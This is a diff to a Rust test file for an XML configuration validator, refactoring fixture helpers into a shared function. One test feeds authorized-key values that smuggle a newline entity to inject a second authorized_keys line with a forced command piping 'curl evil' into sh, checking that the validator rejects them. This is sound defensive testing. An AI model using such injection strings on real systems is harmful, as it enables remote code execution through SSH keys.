@@ -87,10 +87,7 @@ conf01.xml:10:55: error: the default gateway 10.9.0.1 is not in an attached subn
 fn validate_never_quotes_a_secret() {
     // A plain-text password where the hash belongs: the error points at it, but the quoted
     // line shows stars in its place, column for column.
-    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
-    let start = good.find("<password-hash>").unwrap() + "<password-hash>".len();
-    let end = good.find("</password-hash>").unwrap();
-    let bad = format!("{}correct-horse{}", &good[..start], &good[end..]);
+    let bad = with_password_hash("correct-horse");
     let dir = tempfile::tempdir().unwrap();
     let file = dir.path().join("plain.xml");
     std::fs::write(&file, bad).unwrap();
@@ -497,10 +494,23 @@ fn json_errors(out: &Output) -> Vec<serde_json::Value> {
 
 /// The typical transcoding file with the content of `<password-hash>` replaced.
 fn with_password_hash(content: &str) -> String {
+    with_text_of("password-hash", content).0
+}
+
+/// The typical transcoding file with the content of its first `<element>` replaced, and the
+/// line and column where that content starts.
+fn with_text_of(element: &str, content: &str) -> (String, usize, usize) {
     let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
-    let start = good.find("<password-hash>").unwrap() + "<password-hash>".len();
-    let end = good.find("</password-hash>").unwrap();
-    format!("{}{content}{}", &good[..start], &good[end..])
+    let open = format!("<{element}>");
+    let start = good.find(&open).unwrap() + open.len();
+    let end = good.find(&format!("</{element}>")).unwrap();
+    let line = good[..start].lines().count();
+    let column = good[..start].lines().last().unwrap().chars().count() + 1;
+    (
+        format!("{}{content}{}", &good[..start], &good[end..]),
+        line,
+        column,
+    )
 }
 
 #[test]
@@ -695,18 +705,13 @@ fn validate_prints_no_control_character_from_the_file() {
 #[test]
 fn validate_refuses_a_second_line_inside_an_authorized_key() {
     // `&#10;` would have written a second authorized_keys line with a forced command
-    let good = std::fs::read_to_string(fixtures().join("valid/transcoding.xml")).unwrap();
     let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEJveDDZPaLWieLA4qD7Aak3Vrs39NCNlSx891qrtIGg";
-    let start = good.find("<authorized-key>").unwrap() + "<authorized-key>".len();
-    let end = good.find("</authorized-key>").unwrap();
-    let line = good[..start].lines().count();
-    let column = good[..start].lines().last().unwrap().chars().count() + 1;
     for evil in [
         format!("{key} a&#10;command=\"curl evil|sh\" {key} b"),
         format!("{key} a&#13;command=\"curl evil|sh\" {key} b"),
         format!("{key} a<![CDATA[\n]]>command=\"x\" {key} b"),
     ] {
-        let doc = format!("{}{evil}{}", &good[..start], &good[end..]);
+        let (doc, line, column) = with_text_of("authorized-key", &evil);
         let (out, json) = validate_file("keys.xml", doc.as_bytes());
         let stdout = text(&out.stdout);
         assert_eq!(out.status.code(), Some(1), "{stdout}");
